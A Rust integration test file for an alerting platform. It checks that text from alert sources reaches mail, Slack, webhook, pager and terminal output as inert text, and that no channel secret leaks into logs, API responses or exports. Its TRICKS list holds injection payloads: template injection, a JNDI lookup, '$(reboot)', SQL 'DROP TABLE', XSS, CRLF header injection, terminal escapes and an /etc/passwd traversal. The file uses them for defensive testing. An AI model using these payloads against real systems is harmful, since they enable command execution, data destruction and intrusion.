//! Text of a sender on its way through the whole platform: from a signed source into mails, rooms, hooks and onto
//! the terminal it stays text; and the secrets of sources and channels stay where they were put.

mod receivers;

use std::{
    fs,
    path::{Path, PathBuf},
    process::Stdio,
};

use base64::{Engine as _, engine::general_purpose::STANDARD};
use serde_json::{Value, json};

use self::receivers::{Hook, Mail, Request, repeating_mail};
use crate::{
    bad_input::raw::{Answer, Connection},
    sources::{
        found,
        proof::{Kind, Sent, headers},
        send, token,
    },
    support::{Server, run, stderr},
};

/// Templates, headers, expressions, marks of rooms, and what terminals obey.
const TRICKS: [&str; 22] = [
    "{{ 7*7 }}",
    "{% for x in range(999999999) %}{% endfor %}",
    "{{ incident.targets | join(',') }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{#",
    "{{",
    "${jndi:ldap://203.0.113.9/a}",
    "#{7*7}<%= 7*7 %>",
    "incident.severity == 'critical' || true",
    "{header:authorization}",
    "$(reboot)`reboot`",
    "'; DROP TABLE alert; --",
    "<script>alert(1)</script>",
    "a\r\nX-Ringfence-Role: admin\r\n\r\nb",
    "a\r\nBcc: x@example.org",
    "a\nX-Folded: 1\n\nb",
    "a\r\n.\r\nQUIT\r\n",
    "=?utf-8?q?=0D=0AX-Encoded:_1?=",
    "<!channel> <@U012AB3CD> <https://example.org|here>",
    "\u{1b}]0;owned\u{7}\u{1b}[2J",
    "a\u{202e}lacitirc\u{2066}\u{2028}b",
    "../../../../etc/passwd\u{0}.yaml",
];
const ROOM: &str = "/services/T0/canary-of-the-room";
const ROUTING: &str = "canary-of-the-pager";
const PASSWORD: &str = "canary-of-the-mail";
const MESSAGES: &str = "canary-of-the-messages";
/// Base64 of the key of the hook.
const SIGNING: &str = "Y2FuYXJ5LW9mLXRoZS1zaWduZWQtaG9vay0x";

/// A server with a source for each way to prove oneself and the channels `mail`, `room`, `hook`, `pager`, `text`.
fn server(mail: &str, hook: &Hook) -> (Server, PathBuf) {
    let folder = tempfile::tempdir().unwrap();
    let content = folder.path().join("content");
    assert!(run(&["init", content.to_str().unwrap()]).status.success());
    let channels = "channels:
  - { name: dashboard, kind: dashboard }
  - { name: mail, kind: email, address: duty@example.org, attempts: 1 }
  - { name: room, kind: slack, attempts: 1 }
  - { name: hook, kind: webhook, attempts: 1 }
  - { name: pager, kind: pagerduty, attempts: 1 }
  - { name: text, kind: sms, attempts: 1 }
orders:
  - channels: [mail, dashboard]
";
    fs::write(content.join("channels.yaml"), channels).unwrap();
    let mut config = String::new();
    let secret = |name: &str, text: &str| fs::write(folder.path().join(name), text).unwrap();
    for kind in Kind::ALL {
        let name = kind.source("generic");
        secret(&name, &kind.secret("generic"));
        config += &format!(
            "[sources.{name}]\nmapping = \"generic\"\nsecret = \"file:{name}\"\nsignature = \"{}\"\n",
            kind.configured()
        );
    }
    config += &format!("[channels.mail]\nkind = \"email\"\nhost = \"127.0.0.1\"\ntls = \"none\"\n{mail}");
    config += "from = \"ringfence@example.org\"\nallowed_networks = [\"127.0.0.0/8\"]\n";
    for (name, kind, text, more) in [
        ("room", "slack", ROOM.to_owned(), ""),
        ("hook", "webhook", format!("whsec_{SIGNING}"), ""),
        ("pager", "pagerduty", ROUTING.to_owned(), ""),
        ("text", "sms", MESSAGES.to_owned(), "body = { To = \"{to}\", Body = \"{text}\" }\n"),
    ] {
        secret(name, &text);
        config += &format!(
            "[channels.{name}]\nkind = \"{kind}\"\nendpoint = \"{}\"\nsecret = \"file:{name}\"\n{more}\
             allowed_networks = [\"127.0.0.0/8\"]\n",
            hook.address
        );
    }
    secret("mail", PASSWORD);
    let (path, log) = (folder.path().join("ringfence.toml"), folder.path().join("serve.log"));
    fs::write(&path, config).unwrap();
    let error = Stdio::from(fs::File::create(&log).unwrap());
    let (path, content) = (path.display().to_string(), content.display().to_string());
    let extra = ["--log-level", "debug", "--config", &path, "--content", &content];
    (Server::start_saying(folder, &extra, error), log)
}

fn deliver(server: &Server, kind: Kind, id: &str, body: &Value) -> Answer {
    let body = body.to_string();
    let sent = Sent { id: id.to_owned(), ..Sent::now("generic", kind, &body) };
    let path = format!("/api/v1/alerts/{}", kind.source("generic"));
    send(server, &path, &headers(&sent), body.as_bytes())
}

/// Opens an incident by an alert of a source that says this wherever it can, and gives its name.
fn opened(server: &Server, index: usize, text: &str) -> String {
    let account = format!("account-of-{index}");
    let body = json!({
        "title": text, "message": text, "account": account, "incident_type": "unauthorized_access",
        "severity": "low", "labels": { "note": text, "team": text }, "annotations": { "summary": text },
    });
    let answer = deliver(server, Kind::Standard, &account, &body);
    assert_eq!(answer.status, 200, "{text:?}: {}", answer.body);
    let of = |list: &Value| {
        let all = list["items"].as_array().unwrap().iter();
        let mine = all.filter(|item| item["targets"].to_string().contains(&account)).collect::<Vec<_>>();
        mine.first().map(|item| item["id"].as_str().unwrap().to_owned())
    };
    let list = server.until(&["incident", "list"], |list| of(list).is_some());
    of(&list).unwrap()
}

/// Sends how the incident stands over this channel, and gives the notice once it is over.
fn told(server: &Server, channel: &str, incident: &str) -> Value {
    let test = ["notice", "test", channel, "--incident", incident, "--to", "on_call_engineer"];
    let queued = server.json(&test);
    let id = queued["id"].as_str().unwrap();
    server.until(&["notice", "show", id], |notice| {
        ["delivered", "undeliverable", "cancelled"].iter().any(|over| notice["status"] == *over)
    })
}

fn marks(text: &str) -> bool {
    text.chars().any(|c| {
        c.is_control() && c != '\n' || matches!(c, '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
    })
}

#[test]
fn no_text_of_a_sender_is_more_than_text_to_people() {
    let (mail, hook) = (Mail::start(), Hook::start(200));
    let (server, _) = server(&format!("port = {}\n", mail.port), &hook);
    let mut requests = 0;
    for (index, trick) in TRICKS.into_iter().enumerate() {
        let incident = opened(&server, index, trick);
        // The words that are left of it, as people read them.
        let shown = server.json(&["incident", "show", &incident]);
        let title = shown["title"].as_str().unwrap();
        let words: String =
            title.chars().map(|c| if c == '\n' || marks(&c.to_string()) { ' ' } else { c }).collect();

        let list = ["notice", "list", "--incident", &incident];
        let first = |list: &Value| {
            let all = list["items"].as_array().unwrap().iter();
            let mut opened =
                all.filter(|notice| notice["reason"] == "opened" && notice["status"] == "delivered");
            opened.next().cloned()
        };
        let first = first(&server.until(&list, |list| first(list).is_some())).unwrap();
        check_mail(trick, words.trim(), &mail_of(&mail, first["id"].as_str().unwrap()));
        for channel in ["mail", "room", "hook", "pager"] {
            let notice = told(&server, channel, &incident);
            assert_eq!(notice["status"], "delivered", "{trick:?} by {channel}: {notice:#}");
            assert!(!marks(notice["subject"].as_str().unwrap()), "{trick:?}: {notice:#}");
        }
        let got = hook.got();
        assert_eq!(got.len(), requests + 3, "{trick:?}");
        check_requests(trick, words.trim(), &got[requests..]);
        requests = got.len();
        for command in [vec!["incident", "show", &incident], vec!["incident", "list"], vec!["alert", "list"]]
        {
            let said = server.ask(&command);
            assert!(said.status.success(), "{command:?}: {}", stderr(&said));
            let text = String::from_utf8(said.stdout).unwrap();
            assert!(!marks(&text), "{command:?} says {text:?}");
        }
    }
}

/// The one mail of this notice.
fn mail_of(mail: &Mail, notice: &str) -> String {
    let mut mine = mail.taken();
    mine.retain(|mail| mail.contains(&format!("-{notice}@ringfence>\n")));
    assert_eq!(mine.len(), 1, "one mail of {notice}: {mine:#?}");
    mine.remove(0)
}

/// The head has our lines only, and the body has the words and its end.
fn check_mail(trick: &str, words: &str, mail: &str) {
    let (head, body) = mail.split_once("\n\n").unwrap();
    let ours = [
        "From",
        "To",
        "Subject",
        "Message-ID",
        "Date",
        "MIME-Version",
        "Content-Type",
        "Content-Transfer-Encoding",
        "X-Peer",
        "X-MailFrom",
        "X-RcptTo",
    ];
    let mut seen = Vec::new();
    for line in head.lines().filter(|line| !line.starts_with([' ', '\t'])) {
        let (name, _) = line.split_once(": ").unwrap_or_else(|| panic!("{trick:?}: {line:?} in {head}"));
        assert!(ours.contains(&name) && !seen.contains(&name), "{trick:?}: {name} in {head}");
        seen.push(name);
    }
    let of = |name: &str| head.lines().find_map(|line| line.strip_prefix(name)).unwrap();
    assert_eq!(of("X-RcptTo: "), of("To: "), "{trick:?}: {head}");
    assert!(
        ["on-call-engineer@example.com", "ops-manager@example.com"].contains(&of("To: ")),
        "{trick:?}: {head}"
    );
    let body = match head.contains("Content-Transfer-Encoding: quoted-printable") {
        true => unquoted(body),
        false => body.to_owned(),
    };
    assert!(body.contains(words) && body.contains("Done so far"), "{trick:?}: the body is whole: {body}");
}

/// Quoted-printable as text.
fn unquoted(text: &str) -> String {
    let text = text.replace("=\n", "");
    let mut parts = text.split('=');
    let mut bytes = parts.next().unwrap().as_bytes().to_vec();
    for part in parts {
        bytes.push(u8::from_str_radix(&part[..2], 16).unwrap());
        bytes.extend_from_slice(&part.as_bytes()[2..]);
    }
    String::from_utf8(bytes).unwrap()
}

/// In each body the words stand in their place and nowhere else, and rooms see no marks.
fn check_requests(trick: &str, words: &str, requests: &[Request]) {
    let shapes = ["mrkdwn,text", "data,timestamp,type", "dedup_key,event_action,payload,routing_key"];
    for (request, shape) in requests.iter().zip(shapes) {
        let body: Value = serde_json::from_str(&request.body).unwrap();
        let mut names: Vec<&str> = body.as_object().unwrap().keys().map(String::as_str).collect();
        names.sort_unstable();
        assert_eq!(names.join(","), shape, "{trick:?}");
        let (said, words) = match names[0] {
            "mrkdwn" => {
                let text = body["text"].as_str().unwrap();
                assert!(!text.contains(['<', '>']), "{trick:?}: {text}");
                (text, words.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;"))
            }
            "data" => (body["data"]["subject"].as_str().unwrap(), words.to_owned()),
            _ => (body["payload"]["summary"].as_str().unwrap(), words.to_owned()),
        };
        assert!(said.contains(&words), "{trick:?}: no {words:?} in {said:?}");
        assert!(!marks(said), "{trick:?}: {said:?}");
        assert!(request.head.lines().all(|line| !line.to_lowercase().starts_with("x-")), "{}", request.head);
    }
}

#[test]
fn no_secret_of_a_source_or_a_channel_leaves_its_file() {
    // Whoever is told refuses, and repeats what it got.
    let ((port, offered), hook) = (repeating_mail(), Hook::start(400));
    let login = format!("port = {port}\nuser = \"duty\"\nsecret = \"file:mail\"\n");
    let password = STANDARD.encode(format!("\0duty\0{PASSWORD}"));
    let (server, log) = server(&login, &hook);
    let incident = opened(&server, 0, "Sign-ins");
    let mut canaries =
        [ROOM, "canary-of", SIGNING, password.trim_end_matches('=')].map(str::to_owned).to_vec();
    for kind in Kind::ALL {
        canaries.push(kind.secret("generic"));
        let body = json!({ "title": "A", "account": "account-of-1" });
        assert_eq!(deliver(&server, kind, "msg_1", &body).status, 200);
        let path = format!("/api/v1/alerts/{}", kind.source("generic"));
        let name = headers(&Sent::now("generic", kind, "{}")).pop().unwrap().0;
        assert_eq!(send(&server, &path, &[(name, kind.secret("generic") + "x")], b"{}").status, 401);
    }
    let mut answers = String::new();
    for channel in ["mail", "room", "hook", "pager", "text"] {
        let notice = told(&server, channel, &incident);
        assert_ne!(notice["status"], "delivered", "{channel}: {notice:#}");
        answers += &notice.to_string();
    }
    assert!(offered.lock().unwrap().contains(&password) && answers.contains("not taken"), "{answers}");
    let sent: Vec<String> = hook.got().iter().map(|got| format!("{}{}", got.head, got.body)).collect();
    assert!([ROOM, ROUTING, MESSAGES].iter().all(|secret| sent.iter().any(|sent| sent.contains(secret))));
    answers += &read_all(&server, &incident);
    let bundle = server.folder.path().join("data/bundle");
    server.until_done(&["log", "export", "--out", bundle.to_str().unwrap()]);

    let (_, _, folder) = server.end("TERM");
    let log = fs::read_to_string(log).unwrap();
    assert!(log.contains("ending"), "the log is the one of this server: {log}");
    let canaries: Vec<&str> = canaries.iter().map(String::as_str).collect();
    for canary in &canaries {
        assert!(!answers.contains(canary) && !log.contains(canary), "{canary} in {log} or {answers}");
    }
    assert_eq!(found(&folder.path().join("data"), &canaries), Vec::<String>::new());
    assert!(
        !found(&folder.path().join("data"), &["account-of-1"]).is_empty(),
        "the search finds what is there"
    );
}

/// What every route gives that reads without a name, by the reference of the API, and all of one incident.
fn read_all(server: &Server, incident: &str) -> String {
    let reference = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../docs/reference/openapi.json");
    let reference: Value = serde_json::from_str(&fs::read_to_string(reference).unwrap()).unwrap();
    let (token, mut all, mut routes) = (token(server), String::new(), 0);
    for (path, methods) in reference["paths"].as_object().unwrap() {
        let path = path.replace("/incidents/{id}", &format!("/incidents/{incident}"));
        // A stream does not end, and a bundle is taken whole elsewhere.
        let other = path.ends_with("/stream") || path.ends_with("/export");
        if methods.get("get").is_none() || path.contains('{') || other {
            continue;
        }
        let answer = Connection::open(&server.address).get(&path, &token);
        routes += usize::from(answer.status == 200);
        all += &answer.body;
    }
    assert!(routes > 20 && all.contains("account-of-1"), "{routes} routes were read: {all}");
    all
}
